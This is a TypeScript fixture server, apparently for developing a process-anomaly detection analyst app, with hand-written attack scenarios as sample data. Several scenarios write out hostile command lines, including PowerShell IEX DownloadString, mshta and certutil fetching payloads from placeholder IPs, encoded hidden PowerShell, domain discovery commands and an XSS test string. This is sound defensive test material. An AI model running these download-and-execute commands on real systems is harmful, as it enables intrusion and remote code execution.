/**
 * Development-only fixture server: the real route table (server/routes) over in-memory stores
 * filled with hand-written communities, serving build/public. It lets the analyst app be built
 * before the standalone host exists; the Playwright specs run against the real host instead.
 *
 *   npx tsx test/ui/dev/fixture_server.ts [port]
 */
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import Fastify from 'fastify';
import fastifyStatic from '@fastify/static';
import type { ListCommunitiesQuery } from '../../../common/schemas';
import type {
  AnomalousCommunity,
  CommunityEdge,
  SuppressionRule,
  TimeWindow,
} from '../../../common/types/community';
import type { ProcessEvent } from '../../../common/types/process_event';
import type { ScoredEvent } from '../../../common/types/scoring';
import { NoPrevalence } from '../../../server/lib/detection/prevalence';
import {
  ConflictError,
  NotFoundError,
  type CommunityPage,
  type CommunityStore,
  type CommunitySummary,
  type RunReport,
  type Settings,
  type Stores,
  type StoredCommunity,
  type TriagePatch,
} from '../../../server/ports';
import { ROUTES } from '../../../server/routes';
import { registerStandaloneRoutes } from '../../../standalone/register_routes';

interface Step {
  parent: number;
  name: string;
  cmd: string;
  score: number;
  rarity?: number;
  techniques?: string[];
}

interface Scenario {
  host: string;
  user: string;
  root: { name: string; cmd: string };
  steps: Step[];
}

const SCENARIOS: Scenario[] = [
  {
    host: 'WS-FIN-014',
    user: 'CORP\\alice',
    root: { name: 'winword.exe', cmd: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\alice\\Downloads\\invoice_0423.docm"' },
    steps: [
      { parent: 0, name: 'cmd.exe', cmd: 'cmd.exe /c powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA', score: 0.97, techniques: ['T1059.003'] },
      { parent: 1, name: 'powershell.exe', cmd: 'powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA', score: 0.99, techniques: ['T1059.001', 'T1027'] },
      { parent: 2, name: 'whoami.exe', cmd: 'whoami /all', score: 0.81, techniques: ['T1033'] },
      { parent: 2, name: 'net.exe', cmd: 'net user /domain', score: 0.77, techniques: ['T1087.002'] },
      { parent: 2, name: 'nltest.exe', cmd: 'nltest /domain_trusts', score: 0.74, techniques: ['T1482'] },
    ],
  },
  {
    host: 'WS-HR-007',
    user: 'CORP\\bob',
    root: { name: 'explorer.exe', cmd: 'C:\\Windows\\Explorer.EXE' },
    steps: [
      { parent: 0, name: 'mshta.exe', cmd: 'mshta.exe http://203.0.113.7/update.hta', score: 0.93, techniques: ['T1218.005'] },
      { parent: 1, name: 'powershell.exe', cmd: 'powershell.exe -ExecutionPolicy Bypass -File C:\\Users\\bob\\AppData\\Local\\Temp\\u.ps1', score: 0.88, techniques: ['T1059.001'] },
    ],
  },
  {
    host: 'SRV-DC-01',
    user: 'NT AUTHORITY\\SYSTEM',
    root: { name: 'services.exe', cmd: 'C:\\Windows\\system32\\services.exe' },
    steps: [
      { parent: 0, name: 'cmd.exe', cmd: 'cmd.exe /c certutil -urlcache -split -f http://198.51.100.4/a.exe C:\\Users\\Public\\a.exe', score: 0.9, techniques: ['T1105'] },
      { parent: 1, name: 'certutil.exe', cmd: 'certutil -urlcache -split -f http://198.51.100.4/a.exe C:\\Users\\Public\\a.exe', score: 0.95, techniques: ['T1105', 'T1140'] },
    ],
  },
  {
    host: 'WS-ENG-101',
    user: 'CORP\\carol',
    root: { name: 'cmd.exe', cmd: 'cmd.exe' },
    steps: [
      {
        parent: 0,
        name: 'cmd.exe',
        cmd: 'cmd.exe /c echo "<img src=x onerror=window.__xss=1><script>window.__xss=2</script>"',
        score: 0.86,
        techniques: ['T1059.003'],
      },
    ],
  },
  {
    host: 'WS-FIN-014',
    user: 'CORP\\alice',
    root: { name: 'outlook.exe', cmd: '"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"' },
    steps: [
      { parent: 0, name: 'wscript.exe', cmd: 'wscript.exe C:\\Users\\alice\\AppData\\Local\\Temp\\Invoice.js', score: 0.83, techniques: ['T1059.007'] },
      { parent: 1, name: 'rundll32.exe', cmd: 'rundll32.exe C:\\Users\\alice\\AppData\\Roaming\\x.dll,DllRegisterServer', score: 0.79, techniques: ['T1218.011'] },
    ],
  },
  {
    host: 'SRV-APP-03',
    user: 'CORP\\svc_backup',
    root: { name: 'wmiprvse.exe', cmd: 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding' },
    steps: [
      { parent: 0, name: 'powershell.exe', cmd: 'powershell.exe -c "IEX(New-Object Net.WebClient).DownloadString(\'http://192.0.2.9/p\')"', score: 0.91, techniques: ['T1047', 'T1059.001'] },
    ],
  },
  {
    host: 'WS-OPS-022',
    user: 'CORP\\dave',
    root: { name: 'svchost.exe', cmd: 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule' },
    steps: [
      { parent: 0, name: 'schtasks.exe', cmd: 'schtasks /create /tn Updater /tr C:\\ProgramData\\up.exe /sc minute /mo 30', score: 0.62, rarity: 0.9, techniques: ['T1053.005'] },
    ],
  },
];

const FILLER_PARENTS = ['explorer.exe', 'cmd.exe', 'powershell.exe', 'svchost.exe', 'taskeng.exe'];
const FILLER_CHILDREN = ['reg.exe', 'sc.exe', 'tasklist.exe', 'ipconfig.exe', 'bitsadmin.exe', 'regsvr32.exe'];

function rng(seed: number) {
  let s = seed >>> 0;
  return () => {
    s = (s * 1664525 + 1013904223) >>> 0;
    return s / 2 ** 32;
  };
}

function fillerScenarios(n: number): Scenario[] {
  const r = rng(7);
  const out: Scenario[] = [];
  for (let i = 0; i < n; i++) {
    const parent = FILLER_PARENTS[Math.floor(r() * FILLER_PARENTS.length)]!;
    const child = FILLER_CHILDREN[Math.floor(r() * FILLER_CHILDREN.length)]!;
    out.push({
      host: `WS-${String(200 + Math.floor(r() * 40)).padStart(3, '0')}`,
      user: `CORP\\user${Math.floor(r() * 30)}`,
      root: { name: parent, cmd: parent },
      steps: [
        { parent: 0, name: child, cmd: `${child} /q arg${i}`, score: 0.5 + r() * 0.45 },
        { parent: 1, name: 'conhost.exe', cmd: 'conhost.exe 0xffffffff -ForceV1', score: 0.2 + r() * 0.3 },
      ],
    });
  }
  return out;
}

function buildCommunity(s: Scenario, index: number, baseMs: number): StoredCommunity {
  const entity = (i: number) => `{${index.toString(16).padStart(4, '0')}-${i}}`;
  const t0 = baseMs - index * 37 * 60_000;
  const names = [s.root.name, ...s.steps.map((st) => st.name)];
  const cmds = [s.root.cmd, ...s.steps.map((st) => st.cmd)];
  const edges: CommunityEdge[] = [];
  const events: ScoredEvent[] = [];
  s.steps.forEach((st, k) => {
    const child = k + 1;
    const ts = new Date(t0 + k * 4_000).toISOString();
    const eventId = `ev-${index}-${child}`;
    const rarity = st.rarity ?? 1;
    const event: ProcessEvent = {
      '@timestamp': ts,
      host: { name: s.host },
      event: { category: ['process'], type: ['start'], action: 'start', id: eventId, code: '1' },
      process: {
        entity_id: entity(child),
        pid: 1000 + child,
        name: st.name,
        executable: `C:\\Windows\\System32\\${st.name}`,
        command_line: st.cmd,
        parent: {
          entity_id: entity(st.parent),
          name: names[st.parent],
          command_line: cmds[st.parent],
        },
      },
      user: { name: s.user.split('\\')[1], domain: s.user.split('\\')[0] },
      problemchild: { sources: [{ kind: 'file', file: 'fixture.ndjson', line: index * 10 + child, format: 'ecs' }] },
    };
    const topFeatures = [
      { feature: `parent→child: ${names[st.parent]}→${st.name}`, contribution: 0.31 },
      { feature: `cmdline token: ${st.cmd.split(' ')[1] ?? st.name}`, contribution: 0.22 },
      { feature: 'process path depth', contribution: -0.04 },
    ];
    events.push({ event, score: st.score, scoreSource: 'model', topFeatures });
    const pairCount = Math.round((1 - rarity) * 50) + (index % 3);
    edges.push({
      eventId,
      eventIds: [eventId],
      timestamp: ts,
      parentEntityId: entity(st.parent),
      childEntityId: entity(child),
      parentName: names[st.parent]!,
      childName: st.name,
      parentCommandLine: cmds[st.parent],
      commandLine: st.cmd,
      commandLineTemplate: st.cmd.replace(/\d+/g, '<n>'),
      user: s.user,
      score: st.score,
      anomaly: st.score * rarity,
      prevalence: {
        pair: {
          parentName: names[st.parent]!,
          childName: st.name,
          pairCount,
          parentTotal: 500,
          distinctHosts: Math.min(pairCount, 1 + (index % 4)),
          probability: pairCount / 500,
        },
        cmdline: {
          processName: st.name,
          template: st.cmd,
          templateCount: 1,
          processTotal: 40,
          distinctHosts: 1,
          probability: 1 / 40,
        },
        pairCommonness: 1 - rarity,
        cmdlineCommonness: 0,
        rarity,
        text: `${names[st.parent]} → ${st.name} seen ${pairCount} time${pairCount === 1 ? '' : 's'} on ${Math.min(pairCount, 1 + (index % 4))} host${pairCount === 1 ? '' : 's'} in 30 days`,
      },
      topFeatures,
      techniques: st.techniques ?? [],
    });
  });
  const driving = edges.reduce((a, b) => (b.anomaly > a.anomaly ? b : a));
  const maxAnomaly = driving.anomaly;
  const score = 1 - edges.reduce((p, e) => p * (1 - e.anomaly), 1);
  const techniqueIds = [...new Set(edges.flatMap((e) => e.techniques))];
  const window: TimeWindow = {
    start: new Date(Math.floor(t0 / 3_600_000) * 3_600_000).toISOString(),
    end: new Date(Math.floor(t0 / 3_600_000) * 3_600_000 + 3_600_000).toISOString(),
  };
  const community: AnomalousCommunity = {
    id: `c${index.toString(16).padStart(6, '0')}`,
    host: s.host,
    window,
    rank: 0,
    score: Math.min(1, score),
    maxAnomaly,
    maxEdgeScore: Math.max(...edges.map((e) => e.score)),
    drivingEdge: driving,
    edges,
    events,
    entityIds: names.map((_, i) => entity(i)).sort(),
    firstSeen: edges[0]!.timestamp,
    lastSeen: edges[edges.length - 1]!.timestamp,
    users: [s.user],
    techniques: techniqueIds.map((id) => ({
      id,
      name: `Technique ${id}`,
      eventIds: edges.filter((e) => e.techniques.includes(id)).map((e) => e.eventId),
      reasons: [`matched a rule for ${id}`],
    })),
    suppressed: [],
    chain: [s.root.name, ...s.steps.map((st) => st.name)].join(' → '),
  };
  return {
    ...community,
    triage: { status: 'open', assignee: null, note: '', verdict: null, history: [] },
    version: 1,
    detectedAt: new Date(baseMs).toISOString(),
    runId: 'fixture-run',
  };
}

function summarise(c: StoredCommunity): CommunitySummary {
  return {
    id: c.id,
    rank: c.rank,
    host: c.host,
    score: c.score,
    maxAnomaly: c.maxAnomaly,
    maxEdgeScore: c.maxEdgeScore,
    users: c.users,
    firstSeen: c.firstSeen,
    lastSeen: c.lastSeen,
    eventCount: c.events.length,
    chain: c.chain,
    techniques: c.techniques.map((t) => t.id),
    status: c.triage.status,
    assignee: c.triage.assignee,
    verdict: c.triage.verdict,
    version: c.version,
  };
}

const SORT_KEYS: Record<ListCommunitiesQuery['sort'], (c: StoredCommunity) => string | number> = {
  rank: (c) => c.rank,
  max_score: (c) => c.maxAnomaly,
  score: (c) => c.score,
  host: (c) => c.host,
  first_seen: (c) => c.firstSeen,
  last_seen: (c) => c.lastSeen,
  event_count: (c) => c.events.length,
  status: (c) => c.triage.status,
};

class MemoryCommunities implements CommunityStore {
  constructor(readonly all: StoredCommunity[]) {}
  async writeCommunities() {
    return { written: 0, removed: 0, failed: [] };
  }
  async list(q: ListCommunitiesQuery): Promise<CommunityPage> {
    let items = this.all.filter((c) => (q.include_unflagged ? true : c.score >= 0.5));
    if (q.from) items = items.filter((c) => c.lastSeen >= new Date(q.from!).toISOString());
    if (q.to) items = items.filter((c) => c.firstSeen <= new Date(q.to!).toISOString());
    if (q.host) items = items.filter((c) => c.host.toLowerCase() === q.host!.toLowerCase());
    if (q.min_score !== undefined) items = items.filter((c) => c.maxAnomaly >= q.min_score!);
    if (q.q) {
      const needle = q.q.toLowerCase();
      items = items.filter((c) =>
        c.edges.some((e) => (e.commandLine ?? '').toLowerCase().includes(needle)),
      );
    }
    const counts = {
      flagged: items.length,
      reviewed: items.filter((c) => c.triage.status !== 'open').length,
      open: items.filter((c) => c.triage.status === 'open').length,
      acknowledged: items.filter((c) => c.triage.status === 'acknowledged').length,
      closed: items.filter((c) => c.triage.status === 'closed').length,
    };
    if (q.status) items = items.filter((c) => c.triage.status === q.status);
    const key = SORT_KEYS[q.sort];
    const dir = q.direction === 'asc' ? 1 : -1;
    items = [...items].sort((a, b) => {
      const x = key(a);
      const y = key(b);
      return (x < y ? -1 : x > y ? 1 : 0) * dir || a.rank - b.rank;
    });
    const start = (q.page - 1) * q.per_page;
    return {
      total: items.length,
      page: q.page,
      perPage: q.per_page,
      items: items.slice(start, start + q.per_page).map(summarise),
      counts,
    };
  }
  async get(id: string) {
    return this.all.find((c) => c.id === id);
  }
  async triage(id: string, patch: TriagePatch, actor: string, expected?: number) {
    const c = this.all.find((x) => x.id === id);
    if (!c) throw new NotFoundError(`community ${id} not found`);
    if (expected !== undefined && expected !== c.version) {
      throw new ConflictError(`community ${id} is at version ${c.version}, not ${expected}`, c.version);
    }
    const changes: Record<string, { from: unknown; to: unknown }> = {};
    for (const k of ['status', 'assignee', 'note', 'verdict'] as const) {
      if (patch[k] !== undefined && patch[k] !== c.triage[k]) {
        changes[k] = { from: c.triage[k], to: patch[k] };
        (c.triage as unknown as Record<string, unknown>)[k] = patch[k];
      }
    }
    const at = new Date().toISOString();
    c.triage.history.push({ at, by: actor, changes });
    c.triage.updatedAt = at;
    c.triage.updatedBy = actor;
    c.version += 1;
    return c;
  }
}

export function fixtureStores(now = Date.now()): Stores & { communities: MemoryCommunities } {
  const scenarios = [...SCENARIOS, ...fillerScenarios(38)];
  const communities = scenarios.map((s, i) => buildCommunity(s, i, now - 10 * 60_000));
  [...communities]
    .sort((a, b) => b.maxAnomaly - a.maxAnomaly)
    .forEach((c, i) => {
      c.rank = i + 1;
    });
  const suppressions: SuppressionRule[] = [];
  let settings: Settings = {
    threshold: 0.5,
    interval: '15m',
    lookback: '45m',
    prevalence_lookback: '30d',
    indices: 'logs-endpoint.events.process-*',
    score_source: 'model',
  };
  const runs: RunReport[] = [
    {
      runId: 'run-1',
      partition: { index: 0, count: 1 },
      startedAt: new Date(now - 11 * 60_000).toISOString(),
      finishedAt: new Date(now - 10 * 60_000).toISOString(),
      durationMs: 61_234,
      window: { start: new Date(now - 56 * 60_000).toISOString(), end: new Date(now - 11 * 60_000).toISOString() },
      status: 'succeeded',
      eventsRead: 123_456,
      eventsRejected: 12,
      communities: 310,
      flagged: communities.length,
      errors: [],
    },
  ];
  const byId = new Map(communities.flatMap((c) => c.events.map((e) => [e.event.event.id, e.event] as const)));
  return {
    events: {
      async *readEvents() {},
      async eventsById(ids) {
        return ids.map((id) => byId.get(id)).filter((e): e is ProcessEvent => !!e);
      },
    },
    prevalence: { async forWindow() { return new NoPrevalence(); } },
    communities: new MemoryCommunities(communities),
    suppressions: {
      async list() { return [...suppressions]; },
      async add(rules) {
        for (const r of rules) if (!suppressions.some((s) => s.id === r.id)) suppressions.push(r);
      },
      async remove(id) {
        const i = suppressions.findIndex((s) => s.id === id);
        if (i < 0) return false;
        suppressions.splice(i, 1);
        return true;
      },
      async all() { return [...suppressions]; },
    },
    state: {
      async getCheckpoint() { return undefined; },
      async saveCheckpoint() {},
      async recordRun(r) { runs.unshift(r); },
      async recentRuns(limit) { return runs.slice(0, limit); },
    },
    settings: {
      async get() { return settings; },
      async update(patch) {
        settings = { ...settings, ...patch };
        return settings;
      },
    },
  };
}

export async function startFixtureServer(port = 0) {
  const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../..');
  const stores = fixtureStores();
  const app = Fastify({ logger: false });
  let running = false;
  const logger = { debug() {}, info() {}, warn() {}, error: (m: string) => console.error(m) };
  registerStandaloneRoutes(app, {
    routes: ROUTES,
    logger,
    context: () => ({
      stores,
      user: 'standalone',
      logger,
      async runDetection() {
        if (running) return { started: false, message: 'A detection run is already in progress.' };
        running = true;
        setTimeout(() => {
          running = false;
          const now = Date.now();
          void stores.state.recordRun({
            runId: `run-${now}`,
            partition: { index: 0, count: 1 },
            startedAt: new Date(now - 2000).toISOString(),
            finishedAt: new Date(now).toISOString(),
            durationMs: 2000,
            window: null,
            status: 'succeeded',
            eventsRead: 42,
            eventsRejected: 0,
            communities: 3,
            flagged: 0,
            errors: [],
          });
        }, 2000);
        return { started: true, message: 'Detection started.' };
      },
      async nextRunAt() {
        return new Date(Date.now() + 5 * 60_000).toISOString();
      },
    }),
  });
  await app.register(fastifyStatic, { root: path.join(root, 'build/public'), index: ['index.html'] });
  await app.listen({ host: '127.0.0.1', port });
  const addr = app.server.address();
  const p = typeof addr === 'object' && addr ? addr.port : port;
  return { url: `http://127.0.0.1:${p}`, app, stores, close: () => app.close() };
}

if (process.argv[1] && path.resolve(process.argv[1]) === fileURLToPath(import.meta.url)) {
  const s = await startFixtureServer(Number(process.argv[2] ?? 5174));
  console.log(`fixture server on ${s.url}`);
}
